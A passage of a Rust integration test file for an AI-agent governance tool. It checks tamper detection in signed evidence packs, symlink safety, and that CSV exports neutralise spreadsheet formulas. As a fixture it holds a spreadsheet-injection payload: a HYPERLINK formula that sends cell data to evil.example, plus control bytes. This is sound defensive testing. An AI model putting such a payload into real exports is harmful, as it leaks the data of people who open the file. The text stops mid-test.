//! Evidence packs from a seeded store: exported with the binary, checked
//! offline with the log's public key, and every kind of tampering caught —
//! a changed byte in any file, a changed file whose hash is rewritten in
//! pack.json, a removed trail event, another key, and a figure or a step
//! edited by someone holding the log's key (re-signed) that no longer
//! matches its counts or its trail.

mod common;

use std::path::{Path, PathBuf};

use gavel::backend::local::logkey;
use gavel::evidence::pack::{self, Listing, PackFile};
use gavel::evidence::verify::{Key, verify};

struct Exported {
    _dir: tempfile::TempDir,
    db: PathBuf,
    pack: Vec<u8>,
    key: String,
}

fn run(command: &mut assert_cmd::Command) -> String {
    let output = command.output().expect("run");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// A seeded store, a compliance officer, and the pack of an agent with
/// workflows, reviews and audits.
fn exported() -> Exported {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("s.db");
    run(common::gavel(&db).args(["seed", "--workflows", "2000", "--seed", "3"]));
    let users: serde_json::Value =
        serde_json::from_str(&run(common::gavel(&db).args(["users", "list", "--json"])))
            .expect("users");
    let holder = |role: &str| {
        users
            .as_array()
            .and_then(|users| {
                users.iter().find(|user| {
                    user["roles"]
                        .as_array()
                        .is_some_and(|roles| roles.iter().any(|r| r == role))
                })
            })
            .and_then(|user| user["email"].as_str())
            .expect("a holder of the role")
            .to_owned()
    };
    let officer = holder("compliance_officer");
    // The agent with the most workflows and an audit.
    let agent: String = {
        let store = gavel::backend::local::LocalStore::open(&db).expect("store");
        store
            .read(|conn| {
                Ok(conn.query_row(
                    "SELECT w.agent_id FROM workflows w JOIN audits a ON a.agent_id = w.agent_id
                     GROUP BY w.agent_id ORDER BY COUNT(*) DESC LIMIT 1",
                    gavel::db::params![],
                    |row| row.get(0),
                )?)
            })
            .expect("an agent")
    };
    // An independent auditor's audit of the agent's version: the pack
    // then holds its public summary.
    let version: String = {
        let store = gavel::backend::local::LocalStore::open(&db).expect("store");
        store
            .read(|conn| {
                Ok(conn.query_row(
                    "SELECT version FROM agents WHERE agent_id = ?1",
                    [&agent],
                    |row| row.get(0),
                )?)
            })
            .expect("the version")
    };
    let ll144 = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/audits/ll144-selection.csv");
    run(common::gavel(&db)
        .args(["--user", &holder("ml_engineer"), "audit", "import"])
        .arg(&ll144)
        .args([
            "--agent",
            &agent,
            "--agent-version",
            &version,
            "--auditor",
            "Example Audits LLP",
            "--independent",
            "--data",
            "historical",
        ]));
    let out = dir.path().join("pack.zip");
    // A link planted where a careless writer would put its partial file.
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious").expect("victim");
    #[cfg(unix)]
    std::os::unix::fs::symlink(&victim, dir.path().join("pack.zip.partial")).expect("link");
    run(common::gavel(&db)
        .args([
            "--user", &officer, "evidence", "export", "--agent", &agent, "--out",
        ])
        .arg(&out));
    assert_eq!(
        std::fs::read_to_string(&victim).expect("victim"),
        "precious",
        "the planted link was not followed"
    );
    let key = run(common::gavel(&db).args(["trail", "key"]))
        .trim()
        .to_owned();
    Exported {
        pack: std::fs::read(&out).expect("pack"),
        _dir: dir,
        db,
        key,
    }
}

fn problems(pack: &[u8], key: &str) -> Vec<String> {
    verify(pack, Key::Given(key)).problems
}

/// The pack's files with `edit` applied to one, re-zipped (pack.json as it was).
fn edited(pack: &[u8], path: &str, edit: impl Fn(&mut Vec<u8>)) -> Vec<u8> {
    let mut files = pack::unzip(pack).expect("unzip");
    let file = files
        .iter_mut()
        .find(|file| file.path == path)
        .expect("the file");
    edit(&mut file.bytes);
    pack::zip(&files).expect("zip")
}

/// Re-lists and re-signs the files with the store's own key, as a holder
/// of the key could.
fn resigned(files: &[PackFile], db: &Path) -> Vec<u8> {
    let key = logkey::load(&logkey::default_path(db)).expect("log key");
    let mut files: Vec<PackFile> = files
        .iter()
        .filter(|file| file.path != pack::LIST)
        .cloned()
        .collect();
    let about = Listing {
        format: pack::FORMAT.into(),
        origin: key.origin.clone(),
        agent_id: "agt".into(),
        agent_version: None,
        from: None,
        to: None,
        exported_at: chrono::Utc::now(),
        exported_by: "someone@example.com".into(),
        files: Vec::new(),
    };
    let listing = Listing::of(&files, about);
    files.push(PackFile::new(
        pack::LIST,
        pack::sign(&listing, &key.signer).expect("sign"),
    ));
    pack::zip(&files).expect("zip")
}

#[test]
fn a_pack_holds_every_part_and_verifies_with_the_key() {
    let exported = exported();
    let report = verify(&exported.pack, Key::Given(&exported.key));
    assert!(report.holds(), "{:#?}", report.problems);
    assert!(report.key_checked);
    let files = pack::unzip(&exported.pack).expect("unzip");
    let has = |prefix: &str| files.iter().any(|file| file.path.starts_with(prefix));
    for part in [
        "requests/",
        "policy-sets/",
        "workflows/",
        "reviews/",
        "audits/",
        "trail/events.jsonl",
        "trail/checkpoint.txt",
        "summaries/",
        "index.html",
        "pack.json",
    ] {
        assert!(has(part), "no {part} in the pack");
    }
    assert!(report.events > 5);
    let page = files
        .iter()
        .find(|file| file.path == "index.html")
        .map(|file| String::from_utf8_lossy(&file.bytes).into_owned())
        .expect("index.html");
    for words in [
        "Deployment requests",
        "Approval workflows",
        "Bias audits",
        "approved",
    ] {
        assert!(page.contains(words), "index.html lacks {words:?}");
    }
    assert!(!page.contains("<script"), "no scripts");
}

#[test]
fn any_changed_byte_a_removed_event_or_another_key_is_caught() {
    let exported = exported();
    let files = pack::unzip(&exported.pack).expect("unzip");
    for file in files.iter().filter(|file| !file.bytes.is_empty()) {
        let tampered = edited(&exported.pack, &file.path, |bytes| {
            let middle = bytes.len() / 2;
            bytes[middle] ^= 0x01;
        });
        let found = problems(&tampered, &exported.key);
        assert!(
            found.iter().any(|problem| problem.starts_with(&file.path)),
            "{}: {found:?}",
            file.path
        );
    }
    // A changed workflow whose hash is rewritten in pack.json: the list's
    // signature no longer holds.
    let workflow = files
        .iter()
        .find(|file| file.path.starts_with("workflows/"))
        .expect("a workflow");
    let changed = {
        let mut bytes = workflow.bytes.clone();
        let text = String::from_utf8_lossy(&bytes).replace("approved", "rejected");
        bytes = text.into_bytes();
        bytes
    };
    let old_hash = pack::sha256(&workflow.bytes);
    let new_hash = pack::sha256(&changed);
    let mut rewritten = files.clone();
    for file in &mut rewritten {
        if file.path == workflow.path {
            file.bytes = changed.clone();
        }
        if file.path == pack::LIST {
            file.bytes = String::from_utf8_lossy(&file.bytes)
                .replace(&old_hash, &new_hash)
                .into_bytes();
        }
    }
    let found = problems(&pack::zip(&rewritten).expect("zip"), &exported.key);
    assert!(
        found.iter().any(|problem| problem.starts_with("pack.json")),
        "{found:?}"
    );
    // A trail event removed.
    let removed = edited(&exported.pack, "trail/events.jsonl", |bytes| {
        let text = String::from_utf8_lossy(bytes).into_owned();
        let kept: Vec<&str> = text.lines().skip(1).collect();
        *bytes = (kept.join("\n") + "\n").into_bytes();
    });
    let found = problems(&removed, &exported.key);
    assert!(
        found
            .iter()
            .any(|problem| problem.starts_with("trail/events.jsonl")),
        "{found:?}"
    );
    // Another log's key.
    let (_, other) = gavel::domain::checkpoint::generate_key("gavel.log/other");
    let found = problems(&exported.pack, &other);
    assert!(
        found.iter().any(|problem| problem.starts_with("pack.json")),
        "{found:?}"
    );
}

#[test]
fn edits_signed_with_the_key_still_disagree_with_counts_and_trail() {
    let exported = exported();
    let files = pack::unzip(&exported.pack).expect("unzip");
    assert!(verify(&resigned(&files, &exported.db), Key::Given(&exported.key)).holds());
    // A figure in an audit, re-signed: its counts give another.
    let audit = files
        .iter()
        .find(|file| file.path.starts_with("audits/"))
        .expect("an audit");
    let mut value: serde_json::Value = serde_json::from_slice(&audit.bytes).expect("json");
    let ratio = value["disparate_impact_ratio"].as_f64().expect("ratio");
    value["disparate_impact_ratio"] = serde_json::json!((ratio + 0.1).min(1.0) - 0.05);
    let mut figures = files.clone();
    for file in &mut figures {
        if file.path == audit.path {
            file.bytes = serde_json::to_vec_pretty(&value).expect("json");
        }
    }
    let found = problems(&resigned(&figures, &exported.db), &exported.key);
    assert!(
        found.iter().any(|problem| problem.starts_with(&audit.path)),
        "{found:?}"
    );
    // A rate in the public summary, re-signed: its audit gives another.
    let summary = files
        .iter()
        .find(|file| file.path.ends_with("-public-summary.json"))
        .expect("a public summary");
    let mut value: serde_json::Value = serde_json::from_slice(&summary.bytes).expect("json");
    let category = &mut value["tables"][0]["categories"][0];
    let individuals = category["individuals"].as_u64().expect("individuals");
    category["individuals"] = (individuals + 7).into();
    let mut published = files.clone();
    for file in &mut published {
        if file.path == summary.path {
            file.bytes = serde_json::to_vec_pretty(&value).expect("json");
        }
    }
    let found = problems(&resigned(&published, &exported.db), &exported.key);
    assert!(
        found
            .iter()
            .any(|problem| problem.starts_with(&summary.path)),
        "{found:?}"
    );

    // A decided step's decider changed, re-signed: its trail says otherwise.
    let workflow = files
        .iter()
        .find(|file| {
            file.path.starts_with("workflows/")
                && String::from_utf8_lossy(&file.bytes).contains("approver_email\": \"")
        })
        .expect("a decided workflow");
    let mut value: serde_json::Value = serde_json::from_slice(&workflow.bytes).expect("json");
    let steps = value["steps"].as_array_mut().expect("steps");
    let decided = steps
        .iter_mut()
        .find(|step| step["approver_email"].is_string())
        .expect("a decided step");
    decided["approver_email"] = "someone.else@example.com".into();
    let mut changed = files.clone();
    for file in &mut changed {
        if file.path == workflow.path {
            file.bytes = serde_json::to_vec_pretty(&value).expect("json");
        }
    }
    let found = problems(&resigned(&changed, &exported.db), &exported.key);
    assert!(
        found
            .iter()
            .any(|problem| problem.starts_with(&workflow.path) && problem.contains("trail")),
        "{found:?}"
    );
}

/// The files with one JSON file changed by `edit`.
fn with_json_edit(
    files: &[PackFile],
    path: &str,
    edit: impl Fn(&mut serde_json::Value),
) -> Vec<PackFile> {
    let mut files = files.to_vec();
    let file = files
        .iter_mut()
        .find(|file| file.path == path)
        .expect("the file");
    let mut value: serde_json::Value = serde_json::from_slice(&file.bytes).expect("json");
    edit(&mut value);
    file.bytes = serde_json::to_vec_pretty(&value).expect("json");
    files
}

/// The files with the trail's events of `action` left out.
fn without_events(files: &[PackFile], action: &str) -> Vec<PackFile> {
    let mut files = files.to_vec();
    let events = files
        .iter_mut()
        .find(|file| file.path == "trail/events.jsonl")
        .expect("the trail");
    let kept: Vec<&str> = std::str::from_utf8(&events.bytes)
        .expect("utf-8")
        .lines()
        .filter(|line| {
            let event: serde_json::Value = serde_json::from_str(line).expect("an event");
            event["action"] != action
        })
        .collect();
    assert!(
        kept.len() < String::from_utf8_lossy(&events.bytes).lines().count(),
        "the trail held {action} events"
    );
    events.bytes = format!("{}\n", kept.join("\n")).into_bytes();
    files
}

/// Someone holding the log key edits what the trail pins of a request or
/// an audit, or leaves out the events a file needs, and re-signs: the
/// replay of every pinned field catches each.
#[test]
fn re_signed_requesters_recorders_sources_and_missing_events_are_caught() {
    let exported = exported();
    let files = pack::unzip(&exported.pack).expect("unzip");
    let first = |prefix: &str, holding: &str| {
        files
            .iter()
            .find(|file| {
                file.path.starts_with(prefix)
                    && file.path.ends_with(".json")
                    && String::from_utf8_lossy(&file.bytes).contains(holding)
            })
            .unwrap_or_else(|| panic!("a file under {prefix} holding {holding}"))
            .path
            .clone()
    };
    let caught = |files: &[PackFile], path: &str, what: &str| {
        let found = problems(&resigned(files, &exported.db), &exported.key);
        assert!(
            found
                .iter()
                .any(|problem| problem.starts_with(path) && problem.contains(what)),
            "{path}: expected a problem naming {what:?}, found {found:?}"
        );
    };
    let request = first("requests/", "requested_by");
    type Edit = Box<dyn Fn(&mut serde_json::Value)>;
    let edits: [(&str, &str, Edit); 4] = [
        (
            &request,
            "requested_by",
            Box::new(|value| value["requested_by"] = "insider@example.com".into()),
        ),
        (
            &request,
            "triggered policies",
            Box::new(|value| value["triggered_policies"] = serde_json::json!([])),
        ),
        (
            &request,
            "policy set version",
            Box::new(|value| value["policy_set_version"] = 99.into()),
        ),
        (
            &request,
            "agent as filed",
            Box::new(|value| value["agent"]["owner"] = "insider@example.com".into()),
        ),
    ];
    for (path, what, edit) in &edits {
        caught(&with_json_edit(&files, path, edit), path, what);
    }
    let audit = first("audits/", "recorded_by");
    caught(
        &with_json_edit(&files, &audit, |value| {
            value["recorded_by"] = "insider@example.com".into()
        }),
        &audit,
        "recorded_by",
    );
    let imported = first("audits/", "Example Audits LLP");
    caught(
        &with_json_edit(&files, &imported, |value| {
            value["source"]["auditor"] = "Friendly Audits Ltd".into()
        }),
        &imported,
        "source",
    );
    for (action, prefix, what) in [
        ("deployment_requested", "requests/", "deployment_requested"),
        ("audit_recorded", "audits/", "audit_recorded"),
        ("review_assigned", "reviews/", "review_assigned"),
    ] {
        let path = first(prefix, "");
        caught(&without_events(&files, action), &path, what);
    }
}

/// What a hostile agent answers: a live formula for the auditor's
/// spreadsheet, then NUL, BEL, ESC and a bare carriage return.
const HOSTILE_ANSWER: &str =
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")\u{0}\u{7}\u{1b}[31m\rred";

/// People for the workflow that goes through every kind of step.
const ML_SECOND: &str = "ml2@example.com";
const AWAY: &str = "compliance-away@example.com";
const COVER: &str = "compliance-cover@example.com";
const EXPORTER: &str = "records@example.com";

/// The HR chain with a two-person first step, an SLA on the ethics step
/// (reminded at half, escalated 12 hours past due) and the rest as built in.
fn every_kind_of_step_set() -> String {
    let builtin = gavel::domain::policy::set::BUILTIN_SET;
    let text = builtin.replace(
        r#"approval_chain = ["ml_engineer", "ethics_reviewer", "compliance_officer"]"#,
        r#"approval_chain = [{ role = "ml_engineer", quorum = 2 }, { role = "ethics_reviewer", sla = "48h" }, "compliance_officer"]"#,
    );
    assert_ne!(text, builtin);
    format!(
        "{text}\n[sla]\nremind_at = 0.5\nescalate_after = \"12h\"\nescalate_to = \"compliance_officer\"\n"
    )
}

/// One HR agent's deployment through a quorum step, reminders and an
/// escalation, an ethics review and a decision made for someone away,
/// recorded in the store before the server starts. Returns each person's
/// token and the workflow's id.
async fn every_kind_of_step(
    db: &Path,
    agent: &str,
) -> (std::collections::HashMap<&'static str, String>, String) {
    use common::conformance::{
        case, complete_answers, decision, delegation, for_someone, run_start,
    };
    use common::{ADMIN, ADMIN2, COMPLIANCE, ETHICS, ML, REQUESTER};
    use gavel::backend::GovernanceBackend;
    use gavel::backend::local::{LocalBackend, LocalStore};
    use gavel::domain::{Role, Verdict};
    use std::sync::{Arc, Mutex};

    let store = LocalStore::open(db).expect("store");
    let mut tokens = std::collections::HashMap::new();
    let people: [(&'static str, &[Role]); 10] = [
        (REQUESTER, &[Role::TechnicalLead]),
        (ML, &[Role::MlEngineer]),
        (ML_SECOND, &[Role::MlEngineer]),
        (ETHICS, &[Role::EthicsReviewer]),
        (COMPLIANCE, &[Role::ComplianceOfficer]),
        (AWAY, &[Role::ComplianceOfficer]),
        (COVER, &[Role::ComplianceOfficer]),
        (EXPORTER, &[Role::ComplianceOfficer]),
        (ADMIN, &[Role::PolicyAdmin]),
        (ADMIN2, &[Role::PolicyAdmin]),
    ];
    for (email, roles) in people {
        tokens.insert(email, store.add_user(email, email, roles).expect("add"));
    }
    let as_user = |email: &str| LocalBackend::new(Arc::clone(&store), Some(email.into()));
    let proposed = as_user(ADMIN)
        .propose_policy_set(&every_kind_of_step_set())
        .await
        .expect("propose");
    as_user(ADMIN2)
        .decide_policy_set(proposed.version.version, true, Some("two ML engineers"))
        .await
        .expect("approve the set");
    // The first request is blocked until the agent has a passing audit.
    as_user(REQUESTER)
        .request_deployment(&common::hr(agent))
        .await
        .expect("the blocked request");
    // An independent auditor's audit from before (it fails), then a run
    // of the agent on its cases whose audit passes and gates the request.
    let ll144 = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/audits/ll144-selection.csv");
    run(common::gavel(db)
        .args(["--user", ML, "audit", "import"])
        .arg(&ll144)
        .args([
            "--agent",
            agent,
            "--agent-version",
            "1.0.0",
            "--auditor",
            "Example Audits LLP",
            "--independent",
            "--data",
            "historical",
            "--tested-at",
            "2026-01-15",
        ]));
    let ml = as_user(ML);
    let started = ml
        .start_audit_run(&run_start(agent, 24))
        .await
        .expect("start a run");
    let mut cases: Vec<_> = (0..24)
        .map(|n| {
            let sex = if n % 2 == 0 { "female" } else { "male" };
            let outcome = if n < 20 {
                gavel::backend::CaseOutcomeKind::Positive
            } else {
                gavel::backend::CaseOutcomeKind::Negative
            };
            case(&format!("c{n}"), sex, &format!("p{}", n / 2), outcome)
        })
        .collect();
    // An agent answering with a spreadsheet formula and control bytes.
    cases[0].response = HOSTILE_ANSWER.into();
    cases[0].reason = "@SUM(A1:A9)".into();
    ml.record_case_outcomes(&started.run_id, &cases)
        .await
        .expect("outcomes");
    let audit = ml.finish_audit_run(&started.run_id).await.expect("finish");
    assert!(audit.stats.passes_threshold, "{audit:?}");
    let requested = as_user(REQUESTER)
        .request_deployment(&common::hr(agent))
        .await
        .expect("request");
    let workflow_id = requested.workflow_ids[0].clone();

    // Quorum: two ML engineers.
    for engineer in [ML, ML_SECOND] {
        let backend = as_user(engineer);
        let workflow = backend.workflow(&workflow_id).await.expect("workflow");
        backend
            .decide(&decision(&workflow, Verdict::Approve, Some("rates hold")))
            .await
            .expect("ML approval");
    }
    // The ethics step goes past its SLA: reminded, overdue, escalated.
    // (It began waiting at the second approval, before now.)
    let started = chrono::Utc::now();
    let clock = Arc::new(Mutex::new(started));
    let worker = gavel::notify::worker::Worker::new(
        Arc::clone(&store),
        gavel::notify::settings::NotifySettings::default(),
        5,
    )
    .expect("worker");
    let worker = {
        let clock = Arc::clone(&clock);
        worker.with_clock(Arc::new(move || *clock.lock().expect("clock")))
    };
    for hours in [25, 49, 61] {
        *clock.lock().expect("clock") = started + chrono::TimeDelta::hours(hours);
        assert_eq!(worker.alert_due_steps().await.expect("alert"), 1);
    }
    // The review, then the reviewer's approval.
    let review = as_user(COMPLIANCE)
        .assign_review(&workflow_id, ETHICS)
        .await
        .expect("assign");
    as_user(ETHICS)
        .submit_review(&review.review_id, &complete_answers())
        .await
        .expect("submit");
    let workflow = as_user(ETHICS)
        .workflow(&workflow_id)
        .await
        .expect("workflow");
    as_user(ETHICS)
        .decide(&decision(&workflow, Verdict::Approve, Some("reviewed")))
        .await
        .expect("ethics approval");
    // The compliance officer is away; their cover decides for them.
    as_user(AWAY)
        .delegate(&delegation(COVER, None))
        .await
        .expect("delegate");
    let workflow = as_user(COVER)
        .workflow(&workflow_id)
        .await
        .expect("workflow");
    let approved = as_user(COVER)
        .decide(&for_someone(&workflow, Verdict::Approve, AWAY))
        .await
        .expect("approval for someone away");
    assert_eq!(approved.status, gavel::domain::WorkflowStatus::Approved);
    (tokens, workflow_id)
}

/// The binary against a server, as the person whose token it is.
fn over_server(server: &common::server::Server, token: &str) -> assert_cmd::Command {
    let mut command = assert_cmd::Command::cargo_bin("gavel").expect("binary");
    command
        .args(["--url", &server.url, "--config", "/dev/null"])
        .env("GAVEL_TOKEN", token)
        .env("GAVEL_WITNESS_DIR", server.db.with_extension("witness"))
        .env_remove("GAVEL_URL")
        .env_remove("GAVEL_DB")
        .env_remove("GAVEL_USER");
    command
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workflow_through_every_kind_of_step_exports_over_http_and_verifies() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("gavel.db");
    let agent = "agt-every-step";
    let (tokens, workflow_id) = every_kind_of_step(&db, agent).await;
    let server = common::server::Server::start(&db);

    // Only compliance officers export.
    let out = dir.path().join("pack.zip");
    let refused = over_server(&server, &tokens[common::ML])
        .args(["evidence", "export", "--agent", agent, "--out"])
        .arg(&out)
        .output()
        .expect("run");
    assert!(!refused.status.success());
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("compliance"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
    assert!(!out.exists(), "nothing written when refused");

    let said = run(over_server(&server, &tokens[EXPORTER])
        .args(["evidence", "export", "--agent", agent, "--out"])
        .arg(&out));
    assert!(said.contains("wrote"), "{said}");
    let key = run(over_server(&server, &tokens[EXPORTER]).args(["trail", "key"]))
        .trim()
        .to_owned();
    // The pack checks out with the binary, offline, as an auditor runs it.
    let verified = run(common::gavel(&dir.path().join("elsewhere.db"))
        .args(["evidence", "verify"])
        .arg(&out)
        .args(["--key", &key, "--json"]));
    let report: serde_json::Value = serde_json::from_str(&verified).expect("report");
    assert_eq!(report["problems"], serde_json::json!([]), "{verified}");

    let pack = std::fs::read(&out).expect("pack");
    let files = pack::unzip(&pack).expect("unzip");
    let text = |path: &str| {
        files
            .iter()
            .find(|file| file.path == path)
            .map(|file| String::from_utf8_lossy(&file.bytes).into_owned())
            .unwrap_or_else(|| panic!("no {path} in the pack"))
    };
    let workflow: serde_json::Value =
        serde_json::from_str(&text(&format!("workflows/{workflow_id}.json"))).expect("workflow");
    let steps = workflow["steps"].as_array().expect("steps");
    let quorum = &steps[0];
    assert_eq!(quorum["quorum"], 2);
    let approvers: Vec<&str> = quorum["approvals"]
        .as_array()
        .expect("approvals")
        .iter()
        .filter_map(|approval| approval["approver_email"].as_str())
        .collect();
    assert_eq!(approvers, [common::ML, ML_SECOND]);
    let alerts: Vec<&str> = steps[1]["alerts"]
        .as_array()
        .expect("alerts")
        .iter()
        .filter_map(|alert| alert["kind"].as_str())
        .collect();
    assert_eq!(alerts, ["reminder", "overdue", "escalated"]);
    assert_eq!(steps[2]["approver_email"], COVER);
    assert_eq!(steps[2]["on_behalf_of"], AWAY);
    for (prefix, suffix) in [
        ("requests/", ".json"),
        ("policy-sets/", ".toml"),
        ("workflows/", ".json"),
        ("reviews/", ".json"),
        ("reviews/", ".md"),
        ("audits/", ".json"),
        ("audits/", ".svg"),
        ("summaries/", "-public-summary.json"),
        ("summaries/", "-public-summary.html"),
        ("runs/", ".json"),
        ("runs/", "-cases.csv"),
        ("trail/", "events.jsonl"),
        ("trail/", "checkpoint.txt"),
    ] {
        assert!(
            files
                .iter()
                .any(|file| file.path.starts_with(prefix) && file.path.ends_with(suffix)),
            "no {prefix}*{suffix} in the pack"
        );
    }
    let cases_csv = files
        .iter()
        .find(|file| file.path.ends_with("-cases.csv"))
        .map(|file| String::from_utf8_lossy(&file.bytes).into_owned())
        .expect("cases");
    assert_eq!(cases_csv.lines().count(), 25, "a header and 24 cases");
    assert!(cases_csv.contains("Should we advance candidate c7?"));
    // No cell a spreadsheet would run, no raw control byte.
    let mut reader = csv::Reader::from_reader(cases_csv.as_bytes());
    for record in reader.records() {
        for cell in record.expect("a CSV record").iter() {
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "a formula reaches the spreadsheet: {cell:?}");
            assert!(
                !cell
                    .chars()
                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
                "a raw control character: {cell:?}"
            );
        }
    }
    assert!(
        cases_csv.contains("'=HYPERLINK(") && cases_csv.contains("'@SUM(A1:A9)"),
        "the hostile answer is kept, quoted: {cases_csv}"
    );
    let events = text("trail/events.jsonl");
    for kind in [
        "deployment_requested",
        "step_reminded",
        "step_escalated",
        "review_submitted",
        "delegation_created",
        "step_approved",
    ] {
        assert!(events.contains(kind), "no {kind} event in the trail");
    }
    let page = text("index.html");
    for words in [
        COVER,
        AWAY,
        "2 of 2 approvals",
        "escalated",
        "Ethics reviews",
    ] {
        assert!(page.contains(words), "index.html lacks {words:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_packs_page_and_charts_render_and_print_in_a_browser() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("gavel.db");
    let agent = "agt-browser";
    let (_, workflow_id) = every_kind_of_step(&db, agent).await;
    let out = dir.path().join("pack.zip");
    run(common::gavel(&db).args(["trail", "init"]));
    run(common::gavel(&db)
        .args([
            "--user", EXPORTER, "evidence", "export", "--agent", agent, "--out",
        ])
        .arg(&out));
    let unpacked = unpack(
        &std::fs::read(&out).expect("pack"),
        &dir.path().join("pack"),
    );

    // The page as the browser parsed it: every section, the workflow's
    // table with a row per step and nine cells in each, no script.
    let dom = common::browser::in_chromium(&unpacked.join("index.html"), "--dump-dom");
    for words in [
        "Deployment requests",
        "Approval workflows",
        "Ethics reviews",
        "Bias audits",
        &workflow_id,
        "on behalf of",
        "2 of 2 approvals",
        "impact ratio",
        "female",
        "Example Audits LLP (claimed independent, not confirmed) from historical data",
        "24 cases sent to https://agent.example/v1 (model screening)",
    ] {
        assert!(dom.contains(words), "the rendered page lacks {words:?}");
    }
    let table = dom
        .split(&format!("{workflow_id}.json"))
        .nth(1)
        .and_then(|rest| rest.split("</table>").next())
        .expect("the workflow's table");
    let rows: Vec<&str> = table.split("<tr>").skip(1).collect();
    assert_eq!(rows.len(), 4, "a header and three steps: {table}");
    for row in &rows[1..] {
        assert_eq!(row.matches("<td").count(), 9, "{row}");
    }
    assert!(!dom.contains("<script"));

    // Each chart is an SVG the browser reads as one (a malformed one shows
    // Chromium's XML error page instead).
    let charts: Vec<PathBuf> = std::fs::read_dir(unpacked.join("audits"))
        .expect("audits")
        .filter_map(|entry| entry.ok().map(|entry| entry.path()))
        .filter(|path| path.extension().is_some_and(|ext| ext == "svg"))
        .collect();
    assert!(!charts.is_empty(), "no charts");
    for chart in charts {
        let dom = common::browser::in_chromium(&chart, "--dump-dom");
        assert!(dom.trim_start().starts_with("<svg"), "{dom}");
        assert!(dom.contains("<rect"), "{dom}");
        assert!(!dom.contains("error on line"), "{dom}");
    }

    // It prints, for auditors who file a PDF.
    let pdf = dir.path().join("pack.pdf");
    common::browser::in_chromium(
        &unpacked.join("index.html"),
        &format!("--print-to-pdf={}", pdf.display()),
    );
    let printed = std::fs::read(&pdf).expect("the PDF");
    assert!(printed.starts_with(b"%PDF-"), "not a PDF");
    assert!(printed.len() > 10_000, "{} bytes", printed.len());
}

/// The pack's files under `dir`, as an auditor's unzip leaves them.
fn unpack(pack: &[u8], dir: &Path) -> PathBuf {
    for file in pack::unzip(pack).expect("unzip") {
        let path = dir.join(&file.path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("dir");
        std::fs::write(&path, &file.bytes).expect("write");
    }
    dir.to_path_buf()
}

/// Runs tests/reference/verify_pack.go (Go's golang.org/x/mod/sumdb/note
/// and tlog, installed by scripts/test) on an unpacked pack.
fn go_verifies(dir: &Path, key: &str) -> Result<serde_json::Value, String> {
    let gopath = std::env::var("GAVEL_GOPATH").unwrap_or_else(|_| "/usr/share/gocode".into());
    assert!(
        Path::new(&gopath)
            .join("src/golang.org/x/mod/sumdb/note")
            .is_dir(),
        "golang.org/x/mod is not installed under {gopath}: scripts/test installs it"
    );
    let output =
        std::process::Command::new(std::env::var("GAVEL_GO").unwrap_or_else(|_| "go".into()))
            .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/reference"))
            .args(["run", "verify_pack.go"])
            .arg(dir)
            .arg(key)
            .env("GO111MODULE", "off")
            .env("GOPATH", &gopath)
            .env("GOFLAGS", "")
            .output()
            .expect("go (scripts/test installs it)");
    if output.status.success() {
        Ok(serde_json::from_slice(&output.stdout).expect("its report"))
    } else {
        Err(String::from_utf8_lossy(&output.stderr).into_owned())
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_reference_implementation_verifies_a_pack_and_catches_edits() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("gavel.db");
    let agent = "agt-reference";
    let (_, workflow_id) = every_kind_of_step(&db, agent).await;
    run(common::gavel(&db).args(["trail", "init"]));
    let out = dir.path().join("pack.zip");
    run(common::gavel(&db)
        .args([
            "--user", EXPORTER, "evidence", "export", "--agent", agent, "--out",
        ])
        .arg(&out));
    let key = run(common::gavel(&db).args(["trail", "key"]))
        .trim()
        .to_owned();
    let bytes = std::fs::read(&out).expect("pack");
    let ours = verify(&bytes, Key::Given(&key));
    assert!(ours.holds(), "{:#?}", ours.problems);

    // Go's note and tlog packages agree: every file as listed, every event
    // in the signed tree.
    let unpacked = unpack(&bytes, &dir.path().join("pack"));
    let report = go_verifies(&unpacked, &key).expect("the reference verifies it");
    let files = pack::unzip(&bytes).expect("unzip");
    assert_eq!(report["files"], files.len() - 1, "{report}");
    assert_eq!(report["events"], ours.events, "{report}");

    // And catches a changed file, a changed event, another key.
    let workflow = unpacked.join(format!("workflows/{workflow_id}.json"));
    let original = std::fs::read(&workflow).expect("workflow");
    std::fs::write(
        &workflow,
        String::from_utf8_lossy(&original).replace("approved", "rejected"),
    )
    .expect("edit");
    let refused = go_verifies(&unpacked, &key).expect_err("an edited workflow");
    assert!(
        refused.contains(&format!("workflows/{workflow_id}.json")),
        "{refused}"
    );
    std::fs::write(&workflow, &original).expect("restore");
    let events = unpacked.join("trail/events.jsonl");
    let original = std::fs::read_to_string(&events).expect("events");
    std::fs::write(
        &events,
        original.replacen("step_approved", "step_rejected", 1),
    )
    .expect("edit");
    assert!(go_verifies(&unpacked, &key).is_err(), "an edited event");
    std::fs::write(&events, &original).expect("restore");
    // Someone holding the log's key re-signs an edited trail: an event
    // whose fields say rejected while its leaf says approved, then one
    // whose leaf says so too, which the signed tree does not hold.
    let mut files = pack::unzip(&bytes).expect("unzip");
    let line = original
        .lines()
        .find(|line| line.contains(r#""step_approved""#))
        .expect("an approval");
    let field_only = line.replacen(r#""step_approved""#, r#""step_rejected""#, 1);
    let both = field_only.replace(r#"\"step_approved\""#, r#"\"step_rejected\""#);
    assert_ne!(field_only, both, "the leaf holds the action too");
    for (n, (edited, says)) in [
        (field_only, "its fields are not its leaf"),
        (both, "invalid transparency proof"),
    ]
    .into_iter()
    .enumerate()
    {
        for file in &mut files {
            if file.path == "trail/events.jsonl" {
